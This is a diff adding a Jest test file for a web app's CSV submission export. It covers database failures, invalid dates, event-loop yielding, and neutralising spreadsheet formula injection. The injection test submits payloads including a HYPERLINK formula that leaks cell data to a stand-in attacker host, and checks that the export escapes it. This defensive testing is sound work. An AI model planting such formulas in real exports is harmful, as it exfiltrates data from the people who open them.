@@ -1,0 +1,204 @@
+/**
+ * @jest-environment node
+ *
+ * The CSV export under failure and attack: a failure before the first row is an error answer
+ * (503 when the database is gone), one during the export ends that download only and the
+ * server lives on; a cell a spreadsheet would run as a formula is written as text; an export
+ * lets other work run between its pages.
+ */
+import { parse } from 'csv-parse/sync';
+import { responseConforms } from '../../contract/validator';
+import { seed } from '../db/seed';
+import { DatabaseUnavailable, type Params, type Sql } from '../db/sql';
+import { testDialects } from '../db/testDialects';
+import { contact, lead, PREFIX, staffSignIn, startTestServer, type TestClient } from '../testing';
+import { COLUMNS, EXPORT_PAGE, exportCsv } from './csv';
+import { inboxQueries, searchTextOf } from './inbox';
+import { submissionReader } from './records';
+
+type Server = Awaited<ReturnType<typeof startTestServer>>;
+const API = '/agency/api';
+const STAFF = 'team@makler.example';
+
+const cookieOf = (client: TestClient) =>
+  [...client.cookies].map(([k, v]) => `${k}=${v}`).join('; ');
+
+/** The rows of a CSV answer, as German Excel's columns. */
+const rowsOf = (text: string) =>
+  parse(text.replace(/^\uFEFF/, ''), { delimiter: ';', columns: true }) as Record<string, string>[];
+
+describe('the CSV export', () => {
+  let server: Server;
+  let staff: TestClient;
+  beforeAll(async () => {
+    server = await startTestServer({ AGENCY_USERS: STAFF });
+    const visitor = server.client();
+    for (let i = 0; i < 5; i += 1)
+      await visitor.post(`${PREFIX}/v1/wizard/contact`, {
+        contact: contact({ email: `csv${i}@example.de` }),
+        message: `Nr. ${i}`,
+      });
+    staff = await staffSignIn(server, STAFF);
+  });
+  afterAll(() => server.close());
+  afterEach(() => jest.restoreAllMocks());
+
+  it('answers 503 when the database is gone before the first row, and serves again once it is back', async () => {
+    const lost = new DatabaseUnavailable(Object.assign(new Error('gone'), { code: '57P01' }));
+    jest.spyOn(server.app.sql, 'all').mockRejectedValue(lost);
+    const answer = await staff.get(`${API}/submissions.csv`);
+    expect(answer.status).toBe(503);
+    expect(answer.headers.get('retry-after')).toBe('30');
+    expect(answer.body).toMatchObject({ code: 'database_unavailable' });
+    expect(responseConforms('get', `${API}/submissions.csv`, 503, answer.body)).toEqual({
+      ok: true,
+    });
+    jest.restoreAllMocks();
+    expect((await staff.get(`${API}/submissions.csv`)).status).toBe(200);
+  });
+
+  it('ends only that download when the database fails during an export; the server lives on', async () => {
+    // The first page is read; the third submission's record fails (the database stops).
+    const one = server.app.sql.one.bind(server.app.sql);
+    let reads = 0;
+    jest.spyOn(server.app.sql, 'one').mockImplementation((async (
+      text: string,
+      ...params: Params
+    ) => {
+      if (text.startsWith('SELECT * FROM submissions WHERE id') && (reads += 1) === 3)
+        throw new DatabaseUnavailable(new Error('Connection terminated unexpectedly'));
+      return one(text, ...params);
+    }) as never);
+    const response = await fetch(`${server.base}${API}/submissions.csv`, {
+      headers: { Cookie: cookieOf(staff) },
+    });
+    expect(response.status).toBe(200);
+    // Cut off, not ended: the client sees an unfinished download, never a short file.
+    await expect(response.text()).rejects.toThrow();
+    jest.restoreAllMocks();
+    expect((await staff.get(`${API}/auth/me`)).status).toBe(200);
+    const again = await fetch(`${server.base}${API}/submissions.csv?kind=contact`, {
+      headers: { Cookie: cookieOf(staff) },
+    });
+    expect(rowsOf(await again.text()).length).toBe(5);
+  });
+
+  it('refuses a day past what it can count with a 400, and lives on', async () => {
+    for (const day of ['9999-12-31', '2026-13-45', '0000-00-00']) {
+      const answer = await staff.get(`${API}/submissions.csv?to=${day}`);
+      expect(answer.status).toBe(400);
+    }
+    expect((await staff.get(`${API}/submissions.csv`)).status).toBe(200);
+  });
+
+  it('writes every cell a visitor typed that a spreadsheet would run as a formula as text', async () => {
+    const typed = {
+      firstname: '=HYPERLINK("http://evil.example/?x="&A1,"Klick")',
+      lastname: '+SUM(1;2)',
+      phone: '+49 30 1234567',
+      company: '@SUM(A1)',
+      street: '-1+1',
+      number: '5',
+      email: '=x@example.de',
+      zip: '10115',
+      city: 'Berlin',
+    };
+    const answer = await server.client().post(`${PREFIX}/v1/wizard/lead`, {
+      contact: contact(typed),
+      lead: lead({
+        location: { street: '=1+1', number: '2', zip: '10435', city: 'Berlin' },
+      }),
+      message: '-2+3 bitte anrufen',
+    });
+    expect(answer.status).toBe(201);
+    // Stored by an older version, untrimmed: a tab and a carriage return first.
+    const { uuid } = answer.body as { uuid: string };
+    const row = (await server.app.sql.one<{ contact_data: string }>(
+      'SELECT contact_data FROM submissions WHERE uuid = ?',
+      uuid,
+    ))!;
+    await server.app.sql.run(
+      'UPDATE submissions SET contact_data = ? WHERE uuid = ?',
+      JSON.stringify({
+        ...JSON.parse(row.contact_data),
+        salutation: '\t=1+1',
+        company: '\r=2+2',
+      }),
+      uuid,
+    );
+    const csv = await fetch(`${server.base}${API}/submissions.csv?kind=lead`, {
+      headers: { Cookie: cookieOf(staff) },
+    });
+    const [exported] = rowsOf(await csv.text());
+    expect(exported).toMatchObject({
+      Anrede: "'\t=1+1",
+      Vorname: `'${typed.firstname}`,
+      Nachname: `'${typed.lastname}`,
+      'E-Mail': `'${typed.email}`,
+      Telefon: `'${typed.phone}`,
+      Firma: "'\r=2+2",
+      Anschrift: "'-1+1 5, 10115 Berlin",
+      'Ort des Objekts': "'=1+1 2, 10435 Berlin",
+      Nachricht: "'-2+3 bitte anrufen",
+    });
+    // No cell of any column begins with what a spreadsheet runs.
+    for (const column of COLUMNS) expect(exported![column]).not.toMatch(/^[=+\-@\t\r]/);
+  });
+});
+
+describe.each(testDialects())('an export on %s', (_name, openDatabase) => {
+  let sql: Sql;
+  beforeAll(async () => {
+    sql = await openDatabase();
+    await seed(sql);
+  });
+  afterAll(() => sql.close());
+
+  it('lets other work run between its pages', async () => {
+    const count = EXPORT_PAGE + 100;
+    await sql.transaction(async (tx) => {
+      for (let i = 0; i < count; i += 1) {
+        const at = new Date(Date.UTC(2026, 10, 1, 0, i)).toISOString();
+        const data = contact({ email: `row${i}@example.de` });
+        const contactId = (await tx.insert(
+          `INSERT INTO contacts (email, created_at, updated_at) VALUES (?, ?, ?)${
+            tx.dialect === 'postgres' ? ' RETURNING id' : ''
+          }`,
+          data.email,
+          at,
+          at,
+        ))!;
+        await tx.run(
+          `INSERT INTO submissions (uuid, kind, contact_id, contact_data, language, created_at,
+            consents, search_text) VALUES (?, 'contact', ?, ?, 'de', ?, '{}', ?)`,
+          `0190c1a2-0000-7000-8000-${String(i).padStart(12, '0')}`,
+          contactId,
+          JSON.stringify(data),
+          at,
+          searchTextOf(data),
+        );
+      }
+    });
+    const reader = await submissionReader(sql);
+    const events: string[] = [];
+    const records = {
+      ...reader,
+      read: async (tx: Parameters<typeof reader.read>[0], id: number) => {
+        events.push('row');
+        return reader.read(tx, id);
+      },
+    };
+    const stream = await exportCsv({ kind: 'contact' }, inboxQueries(sql), records, sql, {
+      log: () => {},
+    });
+    // Queued when the export starts: it runs as soon as the export lets the event loop turn.
+    setImmediate(() => events.push('other work'));
+    let text = '';
+    for await (const chunk of stream) text += String(chunk);
+    expect(rowsOf(text).length).toBe(count);
+    // Before the second page at the latest, not after the last row.
+    const turn = events.indexOf('other work');
+    expect(turn).toBeGreaterThanOrEqual(0);
+    expect(turn).toBeLessThanOrEqual(EXPORT_PAGE);
+  });
+});
